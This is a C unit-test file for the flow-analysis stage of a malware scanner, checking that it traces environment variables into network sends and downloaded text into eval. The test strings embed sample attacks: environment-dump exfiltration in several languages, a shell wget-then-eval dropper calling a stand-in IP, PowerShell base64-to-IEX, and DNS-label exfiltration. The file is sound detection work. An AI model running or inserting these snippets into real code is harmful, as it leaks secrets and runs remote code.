/*
 * check_flow.c - the second stage (scanners/child/scan_flow.c) on its own:
 * programs with atoms placed by hand where the first stage would find
 * them, and the conditions decided over them. A flow through assignments,
 * containers, loop variables, parameters, returns and callbacks is found;
 * the same atoms without the data between them are not; `all:` holds in
 * order and within its lines only; hostile shapes (deep brackets, huge
 * statements, more names than the table) end without a crash.
 *
 * The shipped rules' own multi-statement examples are proved by `airlock
 * rules test rules`; the corpus in tests/data/flow measures recall.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan_flow.h"

enum { T_ENV = 0, T_NET, T_DEC, T_EVAL, T_A, T_B, T_C, T_HOST, T_DNS };

#define BIT(t) (1ull << (t))

struct fx {
	struct flow_atom a[64];
	size_t na;
	struct flow_report rep[32];
	size_t nrep;
};

/* An atom over the nth (0-based) occurrence of needle in text. */
static void
atom(struct fx *x, const char *text, const char *needle, int nth,
    uint64_t tags)
{
	const char *p = text;
	uint64_t line = 1;
	const char *q;

	for (; nth >= 0; nth--) {
		p = strstr(p, needle);
		ck_assert_msg(p != NULL, "no '%s' in the test text", needle);
		if (nth > 0)
			p++;
	}
	for (q = text; q < p; q++)
		line += *q == '\n';
	ck_assert_uint_lt(x->na, 64);
	x->a[x->na].off = (uint64_t)(p - text);
	x->a[x->na].end = (uint64_t)(p - text + (ptrdiff_t)strlen(needle));
	x->a[x->na].line = line;
	x->a[x->na].tags = tags;
	x->a[x->na].rule = (unsigned)x->na;
	x->na++;
}

static int
cmp_atom(const void *a, const void *b)
{
	const struct flow_atom *x = a, *y = b;

	return x->off < y->off ? -1 : x->off > y->off;
}

static int
on_report(void *ctx, const struct flow_report *r)
{
	struct fx *x = ctx;

	if (x->nrep < 32)
		x->rep[x->nrep++] = *r;
	return 0;
}

static const struct flow_cond conds[] = {
	{.rule = 0, .kind = FLOW_DATA, .from = BIT(T_ENV), .to = BIT(T_NET)},
	{.rule = 1, .kind = FLOW_DATA, .from = BIT(T_DEC), .to = BIT(T_EVAL)},
	{.rule = 2, .kind = FLOW_ALL, .all = {T_A, T_B, T_C}, .nall = 3,
	    .within = 5, .ordered = 1},
	{.rule = 3, .kind = FLOW_DATA, .from = BIT(T_HOST), .to = BIT(T_DNS),
	    .built = 1},
	{.rule = 4, .kind = FLOW_ALL, .all = {T_A, T_B}, .nall = 2,
	    .ordered = 1, .lowered_by = BIT(T_C)},
};

/* Runs the conditions over text as a file called path. */
static void
run(struct fx *x, const char *path, const char *text, int whole)
{
	qsort(x->a, x->na, sizeof(x->a[0]), cmp_atom);
	x->nrep = 0;
	ck_assert_int_eq(scan_flow_run(text, strlen(text), whole,
	    scan_flow_lang(path), x->a, x->na, conds,
	    sizeof(conds) / sizeof(conds[0]), on_report, x), 0);
}

/* The report of condition ci, or NULL. */
static const struct flow_report *
found(const struct fx *x, size_t ci)
{
	size_t i;

	for (i = 0; i < x->nrep; i++)
		if (x->rep[i].cond == ci)
			return &x->rep[i];
	return NULL;
}

START_TEST(through_assignments_and_containers)
{
	static const char t[] =
	    "import os, json, requests\n"
	    "env = dict(os.environ)\n"
	    "payload = {\"host\": \"x\", \"vars\": env}\n"
	    "body = json.dumps(payload)\n"
	    "requests.post(URL,\n"
	    "              data=body)\n";
	struct fx x = {0};
	const struct flow_report *r;

	atom(&x, t, "dict(os.environ)", 0, BIT(T_ENV));
	atom(&x, t, "requests.post(", 0, BIT(T_NET));
	run(&x, "a.py", t, 1);
	ck_assert_ptr_nonnull(r = found(&x, 0));
	ck_assert_uint_eq(r->line, 5);
	ck_assert_uint_eq(r->from_line, 2);
	ck_assert_str_eq(r->through, "env, payload, body");
	ck_assert_uint_eq(r->hops, 3);
	ck_assert_int_eq(r->unfollowed, 0);
}
END_TEST

/* Typed bindings name their variable before the `:` (TypeScript, Rust,
 * Kotlin, Python); a label or a block's colon hides nothing. */
START_TEST(through_typed_bindings)
{
	static const char *const texts[][2] = {
		{"a.ts", "const all: Record<string, string | undefined> = "
		    "{ ...process.env };\nconst body: string = "
		    "JSON.stringify(all);\nfetch(u, { method: 'POST', body });\n"},
		{"a.rs", "let vars: Vec<(String, String)> = "
		    "std::env::vars().collect();\nlet body: String = "
		    "format(vars);\nclient.post(u).body(body).send();\n"},
		{"a.kt", "val env: Map<String, String> = System.getenv()\n"
		    "conn.outputStream.write(env.toString().toByteArray())\n"},
		{"a.js", "l: all = { ...process.env }\nfetch(u, {body: all})\n"},
		{"a.py", "if ok: env = dict(os.environ)\n"
		    "requests.post(u, data=env)\n"},
	};
	static const char *const src[] = {"process.env", "std::env::vars()",
		"System.getenv()", "process.env", "dict(os.environ)"};
	static const char *const sink[] = {"fetch(", "body(body)",
		"outputStream", "fetch(", "requests.post("};
	size_t i;

	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct fx x = {0};

		atom(&x, texts[i][1], src[i], 0, BIT(T_ENV));
		atom(&x, texts[i][1], sink[i], 0, BIT(T_NET));
		run(&x, texts[i][0], texts[i][1], 1);
		ck_assert_msg(found(&x, 0) != NULL, "no flow in %s",
		    texts[i][0]);
	}
}
END_TEST

/* A typed binding's variable carries the value (`through` names it). */
START_TEST(typed_binding_taints_its_name)
{
	static const char t[] =
	    "const cfg: Options = { ...process.env };\n"
	    "fetch(u, { body: JSON.stringify(cfg) });\n";
	struct fx x = {0};

	atom(&x, t, "process.env", 0, BIT(T_ENV));
	atom(&x, t, "fetch(", 0, BIT(T_NET));
	run(&x, "b.ts", t, 1);
	ck_assert_ptr_nonnull(found(&x, 0));
	ck_assert_str_eq(found(&x, 0)->through, "cfg");
}
END_TEST

/* A name given a sink is that sink in its sending calls and its fields:
 * Node's `req = https.request(...); req.write(data)`, Python's
 * `c = HTTPSConnection(...); c.request(..., body)`, Ruby's
 * `req = Net::HTTP::Post.new(uri); req.body = data`. */
START_TEST(through_a_sinks_methods)
{
	static const char t[] =
	    "const data = JSON.stringify({...process.env});\n"
	    "const req = https.request({hostname: h, method: 'POST'});\n"
	    "req.write(data);\n"
	    "req.end();\n"
	    "log.write(data);\n";
	static const char u[] =
	    "import os, http.client\n"
	    "c = http.client.HTTPSConnection(host)\n"
	    "env = dict(os.environ)\n"
	    "c.conn.request('POST', '/', str(env))\n";
	static const char v[] =
	    "data = ENV.to_h.to_json\n"
	    "req = Net::HTTP::Post.new(uri)\n"
	    "req.content_type = 'application/json'\n"
	    "req.body = data\n";
	struct fx x = {0}, y = {0}, z = {0};

	atom(&x, t, "process.env", 0, BIT(T_ENV));
	atom(&x, t, "https.request(", 0, BIT(T_NET));
	run(&x, "a.js", t, 1);
	ck_assert_uint_eq(x.nrep, 1); /* not req.end(), not log.write */
	ck_assert_uint_eq(x.rep[0].line, 3);
	ck_assert_str_eq(x.rep[0].through, "data");
	ck_assert_uint_eq(x.rep[0].to_rule, 1);

	atom(&y, u, "HTTPSConnection(", 0, BIT(T_NET));
	atom(&y, u, "dict(os.environ)", 0, BIT(T_ENV));
	run(&y, "a.py", u, 1);
	ck_assert_uint_eq(y.nrep, 1);
	ck_assert_uint_eq(y.rep[0].line, 4);

	/* A field of the request set to the value: Ruby's req.body = ... */
	atom(&z, v, "ENV.to_h", 0, BIT(T_ENV));
	atom(&z, v, "Net::HTTP::Post", 0, BIT(T_NET));
	run(&z, "a.rb", v, 1);
	ck_assert_uint_eq(z.nrep, 1);
	ck_assert_uint_eq(z.rep[0].line, 4);
}
END_TEST

START_TEST(unrelated_data_is_no_flow)
{
	static const char t[] =
	    "import os, requests\n"
	    "env = dict(os.environ)\n"
	    "print(len(env))\n"
	    "status = {\"ok\": True}\n"
	    "requests.post(URL, json=status)\n"
	    "# requests.post(URL, json=env)\n";
	struct fx x = {0};

	atom(&x, t, "dict(os.environ)", 0, BIT(T_ENV));
	atom(&x, t, "requests.post(", 0, BIT(T_NET));
	atom(&x, t, "requests.post(", 1, BIT(T_NET));
	run(&x, "a.py", t, 1);
	ck_assert_ptr_null(found(&x, 0));
}
END_TEST

START_TEST(through_parameters_returns_and_callbacks)
{
	/* A function defined above its call: its parameter is tainted by
	 * the call, its body is the sink (the second reading finds it). */
	static const char js[] =
	    "function send(d) {\n"
	    "  return fetch(U, {method: \"POST\", body: d});\n"
	    "}\n"
	    "const data = JSON.stringify({...process.env});\n"
	    "send(data);\n";
	/* A helper's return value. */
	static const char py[] =
	    "def gather():\n"
	    "    e = os.environ.copy()\n"
	    "    return e\n"
	    "\n"
	    "def main():\n"
	    "    x = gather()\n"
	    "    requests.post(U, json={'e': x})\n";
	/* A promise resolved in a callback, a callback's parameter. */
	static const char cb[] =
	    "function get(u) {\n"
	    "  return new Promise((resolve) => {\n"
	    "    https.get(u, (res) => {\n"
	    "      let s = '';\n"
	    "      res.on('data', (c) => (s += c));\n"
	    "      res.on('end', () => resolve(s));\n"
	    "    });\n"
	    "  });\n"
	    "}\n"
	    "get(U).then((src) => {\n"
	    "  eval(src);\n"
	    "});\n";
	struct fx x = {0};
	const struct flow_report *r;

	atom(&x, js, "...process.env", 0, BIT(T_ENV));
	atom(&x, js, "fetch(", 0, BIT(T_NET));
	run(&x, "a.js", js, 1);
	ck_assert_ptr_nonnull(r = found(&x, 0));
	ck_assert_uint_eq(r->line, 2);

	memset(&x, 0, sizeof(x));
	atom(&x, py, "os.environ.copy()", 0, BIT(T_ENV));
	atom(&x, py, "requests.post(", 0, BIT(T_NET));
	run(&x, "a.py", py, 1);
	ck_assert_ptr_nonnull(r = found(&x, 0));
	ck_assert_uint_eq(r->line, 7);

	memset(&x, 0, sizeof(x));
	atom(&x, cb, "https.get(", 0, BIT(T_DEC));
	atom(&x, cb, "eval(", 0, BIT(T_EVAL));
	run(&x, "a.js", cb, 1);
	ck_assert_ptr_nonnull(r = found(&x, 1));
	ck_assert_uint_eq(r->line, 11);
}
END_TEST

START_TEST(through_loops_and_mutators)
{
	static const char py[] =
	    "out = {}\n"
	    "for k, v in os.environ.items():\n"
	    "    out[k] = v\n"
	    "blob = []\n"
	    "blob.append(out)\n"
	    "sock.sendall(json.dumps(blob).encode())\n";
	static const char go[] =
	    "var parts []string\n"
	    "for _, e := range os.Environ() {\n"
	    "\tparts = append(parts, e)\n"
	    "}\n"
	    "http.Post(u, \"text/plain\", strings.NewReader(strings.Join(parts, \"\\n\")))\n";
	struct fx x = {0};

	atom(&x, py, "os.environ.items()", 0, BIT(T_ENV));
	atom(&x, py, "sock.sendall(", 0, BIT(T_NET));
	run(&x, "a.py", py, 1);
	ck_assert_ptr_nonnull(found(&x, 0));

	memset(&x, 0, sizeof(x));
	atom(&x, go, "os.Environ()", 0, BIT(T_ENV));
	atom(&x, go, "http.Post(", 0, BIT(T_NET));
	run(&x, "a.go", go, 1);
	ck_assert_ptr_nonnull(found(&x, 0));
}
END_TEST

START_TEST(shell_and_powershell)
{
	static const char sh[] =
	    "#!/bin/sh\n"
	    "get() {\n"
	    "  wget -qO- \"http://203.0.113.45/$1\"\n"
	    "}\n"
	    "body=$(get stage2)\n"
	    "eval \"$body\"\n";
	static const char ps[] =
	    "$b = [Convert]::FromBase64String($enc)\n"
	    "$s = [Text.Encoding]::Unicode.GetString($b)\n"
	    "if ($s.Length -gt 0) {\n"
	    "    IEX $s\n"
	    "}\n";
	struct fx x = {0};

	atom(&x, sh, "wget -qO-", 0, BIT(T_DEC));
	atom(&x, sh, "eval \"$", 0, BIT(T_EVAL));
	run(&x, "a.sh", sh, 1);
	ck_assert_ptr_nonnull(found(&x, 1));

	memset(&x, 0, sizeof(x));
	atom(&x, ps, "FromBase64String(", 0, BIT(T_DEC));
	atom(&x, ps, "IEX", 0, BIT(T_EVAL));
	run(&x, "a.ps1", ps, 1);
	ck_assert_ptr_nonnull(found(&x, 1));
}
END_TEST

START_TEST(a_sink_does_not_feed_itself)
{
	/* requests.get( is both a download and a request: on its own it is
	 * no flow from one to the other. */
	static const char t[] = "r = requests.get(U)\nprint(r)\n";
	struct fx x = {0};

	atom(&x, t, "requests.get(", 0, BIT(T_ENV) | BIT(T_NET));
	run(&x, "a.py", t, 1);
	ck_assert_ptr_null(found(&x, 0));
}
END_TEST

START_TEST(comments_and_regexes_hide_nothing)
{
	/* A regex literal with a quote in it does not open a string that
	 * would swallow the code after it; a Python floor division is no
	 * comment. */
	static const char js[] =
	    "const q = s.replace(/'/g, \"\");\n"
	    "const all = {...process.env};\n"
	    "fetch(U, {body: JSON.stringify(all)});\n";
	static const char py[] =
	    "n = 10 // 2; env = dict(os.environ)\n"
	    "requests.post(U, json=env)\n";
	struct fx x = {0};

	atom(&x, js, "...process.env", 0, BIT(T_ENV));
	atom(&x, js, "fetch(", 0, BIT(T_NET));
	run(&x, "a.js", js, 1);
	ck_assert_ptr_nonnull(found(&x, 0));

	memset(&x, 0, sizeof(x));
	atom(&x, py, "dict(os.environ)", 0, BIT(T_ENV));
	atom(&x, py, "requests.post(", 0, BIT(T_NET));
	run(&x, "a.py", py, 1);
	ck_assert_ptr_nonnull(found(&x, 0));
}
END_TEST

START_TEST(all_in_order_and_within)
{
	static const char t[] = "a\nb\nc\n";
	static const char rev[] = "c\nb\na\n";
	static const char far[] = "a\nb\n\n\n\n\n\n\nc\n";
	struct fx x = {0};
	const struct flow_report *r;

	atom(&x, t, "a", 0, BIT(T_A));
	atom(&x, t, "b", 0, BIT(T_B));
	atom(&x, t, "c", 0, BIT(T_C));
	run(&x, "x.sh", t, 1);
	ck_assert_ptr_nonnull(r = found(&x, 2));
	ck_assert_uint_eq(r->from_line, 1);
	ck_assert_uint_eq(r->line, 3);

	memset(&x, 0, sizeof(x));
	atom(&x, rev, "a", 0, BIT(T_A));
	atom(&x, rev, "b", 0, BIT(T_B));
	atom(&x, rev, "c", 0, BIT(T_C));
	run(&x, "x.sh", rev, 1);
	ck_assert_ptr_null(found(&x, 2));

	memset(&x, 0, sizeof(x));
	atom(&x, far, "a", 0, BIT(T_A));
	atom(&x, far, "b", 0, BIT(T_B));
	atom(&x, far, "c", 0, BIT(T_C));
	run(&x, "x.sh", far, 1);
	ck_assert_ptr_null(found(&x, 2));
}
END_TEST

START_TEST(all_lowered_by_what_lies_between)
{
	/* A checksum verified between the download and the run lowers the
	 * dropper; one after the run does not. */
	static const char t[] = "a\nc\nb\n";
	static const char after[] = "a\nb\nc\n";
	struct fx x = {0};
	const struct flow_report *r;

	atom(&x, t, "a", 0, BIT(T_A));
	atom(&x, t, "c", 0, BIT(T_C));
	atom(&x, t, "b", 0, BIT(T_B));
	run(&x, "x.sh", t, 1);
	ck_assert_ptr_nonnull(r = found(&x, 4));
	ck_assert_int_eq(r->lowered, 1);

	memset(&x, 0, sizeof(x));
	atom(&x, after, "a", 0, BIT(T_A));
	atom(&x, after, "b", 0, BIT(T_B));
	atom(&x, after, "c", 0, BIT(T_C));
	run(&x, "x.sh", after, 1);
	ck_assert_ptr_nonnull(r = found(&x, 4));
	ck_assert_int_eq(r->lowered, 0);
}
END_TEST

START_TEST(built_strings_for_dns)
{
	/* Resolving the host's own name is no exfiltration; spelling it
	 * into a label of another domain is. */
	static const char own[] = "ip = socket.gethostbyname(socket.gethostname())\n";
	static const char lab[] =
	    "h = socket.gethostname()\n"
	    "q = h + \".x.example.net\"\n"
	    "socket.gethostbyname(q)\n";
	struct fx x = {0};

	atom(&x, own, "socket.gethostbyname(", 0, BIT(T_DNS));
	atom(&x, own, "socket.gethostname(", 0, BIT(T_HOST));
	run(&x, "a.py", own, 1);
	ck_assert_ptr_null(found(&x, 3));

	memset(&x, 0, sizeof(x));
	atom(&x, lab, "socket.gethostname(", 0, BIT(T_HOST));
	atom(&x, lab, "socket.gethostbyname(", 0, BIT(T_DNS));
	run(&x, "a.py", lab, 1);
	ck_assert_ptr_nonnull(found(&x, 3));
}
END_TEST

START_TEST(text_not_whole_is_decided_by_lines)
{
	static const char t[] = "x = os.environ\n\n\nsend(y)\n";
	struct fx x = {0};
	const struct flow_report *r;

	atom(&x, t, "os.environ", 0, BIT(T_ENV));
	atom(&x, t, "send(", 0, BIT(T_NET));
	run(&x, "a.py", t, 0);
	ck_assert_ptr_nonnull(r = found(&x, 0));
	ck_assert_int_eq(r->unfollowed, 1);
}
END_TEST

/* The tables of names and functions grow with the file: a chain of 300
 * names and a function defined after 100 others are still followed to
 * their end (both past several of the tables' growths). */
START_TEST(long_chains_past_the_tables_first_room)
{
	size_t n = 64 * 1024, o = 0, k;
	char *t = malloc(n);
	struct fx x = {0};
	const struct flow_report *r;

	ck_assert_ptr_nonnull(t);
	for (k = 0; k < 100; k++)
		o += (size_t)snprintf(t + o, n - o,
		    "def f%zu(a):\n    return a\n", k);
	o += (size_t)snprintf(t + o, n - o,
	    "def leak(p):\n    requests.post(URL, data=p)\n"
	    "v0 = dict(os.environ)\n");
	for (k = 0; k < 300; k++)
		o += (size_t)snprintf(t + o, n - o, "v%zu = v%zu\n", k + 1, k);
	o += (size_t)snprintf(t + o, n - o, "leak(v300)\n");
	ck_assert_uint_lt(o, n - 1);
	atom(&x, t, "dict(os.environ)", 0, BIT(T_ENV));
	atom(&x, t, "requests.post(", 0, BIT(T_NET));
	run(&x, "a.py", t, 1);
	ck_assert_ptr_nonnull(r = found(&x, 0));
	free(t);
}
END_TEST

START_TEST(hostile_shapes)
{
	size_t n = 300000;
	char *t = malloc(n + 1);
	struct fx x = {0};

	ck_assert_ptr_nonnull(t);
	/* Brackets far deeper than the stack. */
	memset(t, '(', n);
	t[n] = '\0';
	atom(&x, t, "(", 0, BIT(T_ENV));
	atom(&x, t, "(", 5, BIT(T_NET));
	run(&x, "a.js", t, 1);
	/* More names than the table (each tainted by the one before):
	 * the chain is cut where the table is full, the reading ends. */
	{
		size_t o = 0, k = 0;

		while (o + 32 < n) {
			int w = snprintf(t + o, n - o, "v%zu = v%zu\n", k + 1, k);

			o += (size_t)w;
			k++;
		}
		t[o] = '\0';
		memset(&x, 0, sizeof(x));
		atom(&x, t, "v1 = v0", 0, BIT(T_ENV));
		atom(&x, t, "v20000 = ", 0, BIT(T_NET));
		run(&x, "a.py", t, 1);
		ck_assert_uint_le(x.nrep, FLOW_MAX_REPORTS);
		memset(t + o, 'x', n - o);
		t[n] = '\0';
	}
	/* Strings and comments left open. */
	memset(t, '"', n / 2);
	memset(t + n / 2, '/', n - n / 2);
	t[n] = '\0';
	run(&x, "a.js", t, 1);
	free(t);
}
END_TEST

/* A call chain that ends in a callback's block is no definition: the
 * flow through it is followed (a promise's .then). */
START_TEST(a_chain_into_a_block_is_no_definition)
{
	static const char t[] =
	    "function fetchText(url) {\n"
	    "  return new Promise((resolve) => {\n"
	    "    https.get(url, (res) => {\n"
	    "      let body = '';\n"
	    "      res.on('data', (c) => (body += c));\n"
	    "      res.on('end', () => resolve(body));\n"
	    "    });\n"
	    "  });\n"
	    "}\n"
	    "if (ok) {\n"
	    "  fetchText(SRC)\n"
	    "    .then((script) => run(script))\n"
	    "    .catch(() => {});\n"
	    "}\n";
	struct fx x = {0};
	const struct flow_report *r;

	atom(&x, t, "https.get(", 0, BIT(T_DEC));
	atom(&x, t, "run(script)", 0, BIT(T_EVAL));
	run(&x, "a.js", t, 1);
	ck_assert_ptr_nonnull(r = found(&x, 1));
	ck_assert_uint_eq(r->line, 12);
}
END_TEST

/* The keyword table is searched by halves: it must stay in order. */
START_TEST(keywords_in_order)
{
	ck_assert_int_eq(scan_flow_keywords_sorted(), 1);
}
END_TEST

/* A minified file: thousands of statements and functions on one line
 * (each statement's indent and each function are found without going
 * over the line or the table again); a flow across it is still read. */
START_TEST(one_long_line)
{
	size_t n = 400000, o = 0, k = 0;
	char *t = malloc(n + 1);
	struct fx x = {0};
	const struct flow_report *r;

	ck_assert_ptr_nonnull(t);
	o += (size_t)snprintf(t, n, "var e=JSON.stringify(process.env);");
	while (o + 128 < n) {
		o += (size_t)snprintf(t + o, n - o,
		    "function f%zu(a){return a+%zu};", k, k);
		k++;
	}
	o += (size_t)snprintf(t + o, n - o, "fetch(u,{body:e});\n");
	t[o] = '\0';
	atom(&x, t, "process.env)", 0, BIT(T_ENV));
	atom(&x, t, "fetch(", 0, BIT(T_NET));
	run(&x, "a.js", t, 1);
	ck_assert_ptr_nonnull(r = found(&x, 0));
	ck_assert_uint_eq(r->line, 1);
	ck_assert_uint_eq(r->from_line, 1);
	free(t);
}
END_TEST

static Suite *
flow_suite(void)
{
	Suite *s = suite_create("flow");
	TCase *tc = tcase_create("core");

	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, through_assignments_and_containers);
	tcase_add_test(tc, through_typed_bindings);
	tcase_add_test(tc, typed_binding_taints_its_name);
	tcase_add_test(tc, through_a_sinks_methods);
	tcase_add_test(tc, long_chains_past_the_tables_first_room);
	tcase_add_test(tc, unrelated_data_is_no_flow);
	tcase_add_test(tc, through_parameters_returns_and_callbacks);
	tcase_add_test(tc, through_loops_and_mutators);
	tcase_add_test(tc, shell_and_powershell);
	tcase_add_test(tc, a_sink_does_not_feed_itself);
	tcase_add_test(tc, comments_and_regexes_hide_nothing);
	tcase_add_test(tc, all_in_order_and_within);
	tcase_add_test(tc, all_lowered_by_what_lies_between);
	tcase_add_test(tc, built_strings_for_dns);
	tcase_add_test(tc, text_not_whole_is_decided_by_lines);
	tcase_add_test(tc, hostile_shapes);
	tcase_add_test(tc, keywords_in_order);
	tcase_add_test(tc, a_chain_into_a_block_is_no_definition);
	tcase_add_test(tc, one_long_line);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(flow_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
